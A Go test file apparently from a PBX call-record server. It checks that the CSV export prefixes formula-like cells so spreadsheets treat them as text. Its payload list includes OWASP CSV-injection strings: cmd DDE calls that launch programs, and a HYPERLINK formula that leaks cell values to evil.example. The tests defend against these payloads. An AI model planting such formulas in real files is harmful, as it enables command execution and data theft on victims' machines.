package server

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"
)

// OWASP's CSV injection payloads (and the same with the other starting characters).
var owaspPayloads = []string{
	`=cmd|' /C calc'!A0`,
	`=cmd|' /C notepad'!'A1'`,
	`=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`=10+20+cmd|' /C calc'!A0`,
	"\t=1+2",
	"\r=1+2",
	`-1`, // a number: stays one
	`+375290000000`,
	`12.5`,
}

func TestCSVCell(t *testing.T) {
	for _, v := range owaspPayloads {
		got := cell(v)
		number := plainNumber.MatchString(v)
		if number && got != v {
			t.Errorf("%q is a number, written %q", v, got)
		}
		if !number && got != "'"+v {
			t.Errorf("%q written %q, want it prefixed with a quote", v, got)
		}
	}
	for _, v := range []string{"", "Petr", "09121234567", "a=b", "'=1"} {
		if cell(v) != v {
			t.Errorf("%q changed to %q", v, cell(v))
		}
	}
}

// Attack: a caller number a spreadsheet runs as a formula when the manager opens the
// export. Now every such cell reaches the spreadsheet as text.
func TestCSVExportDefusesFormulas(t *testing.T) {
	e := startEnv(t, testConfig(t))
	<-e.srv.Ready()
	// The first delivery is a days-old record: it becomes a CDR on an empty board too.
	for i, p := range owaspPayloads {
		body := fmt.Sprintf(`{"event_name":"Cdr","unique_id":"csv-%d","src":%q,"dst":%q,"type":"incoming","disposition":"ANSWERED",`+
			`"starttime":"2026-11-23 10:00:00.000000","endtime":"2026-11-23 10:01:00.000000","duration":60,"billsec":50,"wait":10}`, i, p, p)
		if code, resp := e.post("/hooks/pbx1", body, basic("hook", "pw-pbx1")); code != 200 {
			t.Fatalf("%q: %d %s", p, code, resp)
		}
	}
	cookie := e.formLogin("admin", "adminpw")
	var rows [][]string
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		req, _ := http.NewRequest("GET", e.url+"/cdrs.csv", nil)
		req.AddCookie(cookie)
		code, body := do(t, req)
		var err error
		if rows, err = csv.NewReader(strings.NewReader(body)).ReadAll(); code != 200 || err != nil {
			t.Fatalf("/cdrs.csv: %d %v", code, err)
		}
		if len(rows) == len(owaspPayloads)+1 || time.Now().After(deadline) {
			break
		}
	}
	if len(rows) != len(owaspPayloads)+1 {
		t.Fatalf("%d rows, want %d CDRs: %q", len(rows)-1, len(owaspPayloads), rows)
	}
	from := 3 // the "from" column
	if rows[0][from] != "from" {
		t.Fatalf("header %v", rows[0])
	}
	seen := 0
	for _, r := range rows[1:] {
		for _, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && !plainNumber.MatchString(v) {
				t.Errorf("cell %q reaches the spreadsheet as a formula (row %v)", v, r)
			}
		}
		for _, p := range owaspPayloads {
			if r[from] == p || r[from] == "'"+p {
				seen++
			}
		}
	}
	if seen != len(owaspPayloads) {
		t.Errorf("%d of %d payloads found in the from column, as text or as numbers", seen, len(owaspPayloads))
	}
}
